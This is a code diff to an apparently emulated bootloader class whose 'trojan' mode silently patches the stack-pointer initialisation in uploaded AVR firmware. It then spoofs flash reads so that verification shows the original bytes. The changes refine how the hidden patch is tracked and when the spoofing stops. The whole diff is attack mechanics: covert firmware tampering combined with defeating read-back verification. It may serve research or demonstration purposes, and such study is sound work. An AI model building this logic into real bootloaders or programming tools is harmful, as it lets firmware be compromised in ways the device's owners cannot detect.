@@ -199,8 +199,9 @@ class BootSession:
     patched word are reverted on the fly, so a verify pass sees exactly
     the uploaded bytes.  If the immediate cannot take the subtraction the
     session stays dormant and nothing is patched or spoofed.  The session
-    patches at most once; ``_patch`` holds the patched word and the two
-    bytes it replaced.
+    patches at most once; ``_patch`` holds the two bytes the patch
+    replaced until a later write covers either of them, and from then on
+    reads show the stored bytes.
     """
 
     image: FlashImage
@@ -209,7 +210,7 @@ class BootSession:
     load_address: int = 0
     sp_site: SpInitSite | None = None
     _received: _IntervalSet = field(default_factory=_IntervalSet)
-    _patch: tuple[int, bytes] | None = None
+    _patch: bytes | None = None
 
     @property
     def layout(self) -> MemoryLayout:
@@ -240,6 +241,8 @@ class BootSession:
         self.image.write(start, data)
         self._received.add(start, end)
         self.load_address = end
+        if self._patch is not None and start - 2 < self.sp_site.offset < end:
+            self._patch = None  # the patched word was overwritten: nothing left to hide
         if self.trojan_enabled and self.sp_site is None:
             self._scan_for_sp_init(start, end)
         return bytes([CMD_PROGRAM_FLASH, STATUS_CMD_OK])
@@ -259,7 +262,7 @@ class BootSession:
             except avr.UnderflowWouldBorrow:
                 return  # dormant: immediate too small to take the theft
             self.sp_site = site
-            self._patch = (self.image.read_word(site.offset), original)
+            self._patch = original
             return
 
     def _handle_read_flash(self, body: bytes) -> bytes:
@@ -277,17 +280,12 @@ class BootSession:
 
     def _spoof_window(self, data: bytearray, start: int):
         """Present the pre-patch bytes wherever the window overlaps the
-        patched instruction word.  Once that word was overwritten since the
-        patch (it no longer holds the patched word) the read is passed
-        through untouched rather than inventing bytes."""
+        patched instruction word."""
         offset = self.sp_site.offset
-        patched_word, original = self._patch
-        if self.image.read_word(offset) != patched_word:
-            return
-        for i in (0, 1):
+        for i, byte in enumerate(self._patch):
             pos = offset + i - start
             if 0 <= pos < len(data):
-                data[pos] = original[i]
+                data[pos] = byte
 
     def handle(self, body: bytes) -> bytes:
         if not body:
